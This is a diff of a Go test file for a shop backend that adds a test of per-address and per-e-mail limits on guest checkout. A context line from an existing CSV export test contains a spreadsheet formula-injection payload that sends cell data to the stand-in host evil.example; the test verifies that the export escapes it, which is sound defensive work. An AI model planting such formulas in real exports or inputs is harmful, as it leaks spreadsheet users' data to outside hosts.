@@ -11,6 +11,7 @@ import (
 	"shop/internal/app"
 	"shop/internal/app/apptest"
 	"shop/internal/demo"
+	"shop/internal/platform/config"
 )
 
 // TestPasswordOver72Bytes422: bcrypt reads at most 72 bytes of a password and refuses more; every
@@ -86,6 +87,54 @@ func TestCSVFormulaEscaped(t *testing.T) {
 		recs, err = csv.NewReader(bytes.NewReader(r.Raw)).ReadAll()
 		if r.Status != 200 || err != nil || len(recs) != 2 || recs[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"Klik")` || recs[1][6] != "1320.00" {
 			t.Errorf("partner CSV feed: %d %v %q, want the name escaped and the price as it was", r.Status, err, recs)
+		}
+	})
+}
+
+// TestGuestCheckoutLimits429: one address placing guest orders one after another is refused
+// past its hourly limit (so a script cannot empty a product's stock), while a shopper at another
+// address still buys; one e-mail is limited across addresses too.
+func TestGuestCheckoutLimits429(t *testing.T) {
+	t.Parallel()
+	runWith(t, func(cfg *config.Config) {
+		trustLoopback(cfg)
+		cfg.Sales.GuestOrdersPerIPPerHour = 3
+		cfg.Sales.GuestOrdersPerEmailPerHour = 2
+	}, func(t *testing.T, a *app.App) {
+		fx := newSalesFixture(t, a)
+		ts := fx.ts
+		phone := fx.product(t, "Telefon", 1000, 20)
+		order := func(ip, email, lang string) resp {
+			t.Helper()
+			cart := fx.guestCart(t, map[uint64]int{phone: 1})
+			return ts.do(req{method: "POST", path: "/api/v1/orders", header: forwardedFrom(ip), lang: lang,
+				body: checkoutForm(cart, map[string]any{"email": email})})
+		}
+		for i := range 3 {
+			if r := order("203.0.113.50", fmt.Sprintf("bot%d@example.rs", i), ""); r.Status != 201 {
+				t.Fatalf("bot order %d: %d %s", i+1, r.Status, r.Raw)
+			}
+		}
+		r := order("203.0.113.50", "bot9@example.rs", "")
+		if r.Status != 429 || !strings.HasPrefix(message(r), "Previše porudžbina. Pokušajte ponovo za ") || r.Header.Get("Retry-After") == "" {
+			t.Fatalf("fourth order from one address: %d %s, want 429", r.Status, r.Raw)
+		}
+		if r := order("203.0.113.50", "bot10@example.rs", "en"); r.Status != 429 || !strings.HasPrefix(message(r), "Too many orders. Please try again in ") {
+			t.Errorf("in English: %d %s", r.Status, r.Raw)
+		}
+		// A real shopper elsewhere still buys.
+		if r := order("198.51.100.60", "kupac@example.rs", ""); r.Status != 201 {
+			t.Fatalf("another address: %d %s, want 201", r.Status, r.Raw)
+		}
+		if got := fx.stock(t, phone); got != 16 {
+			t.Errorf("stock %d after four orders, want 16 (refused orders take nothing)", got)
+		}
+		// One e-mail over several addresses.
+		if r := order("198.51.100.61", "kupac@example.rs", ""); r.Status != 201 {
+			t.Fatalf("the e-mail's second order: %d %s", r.Status, r.Raw)
+		}
+		if r := order("198.51.100.62", "KUPAC@example.rs", ""); r.Status != 429 {
+			t.Errorf("the e-mail's third order from a third address: %d %s, want 429", r.Status, r.Raw)
 		}
 	})
 }
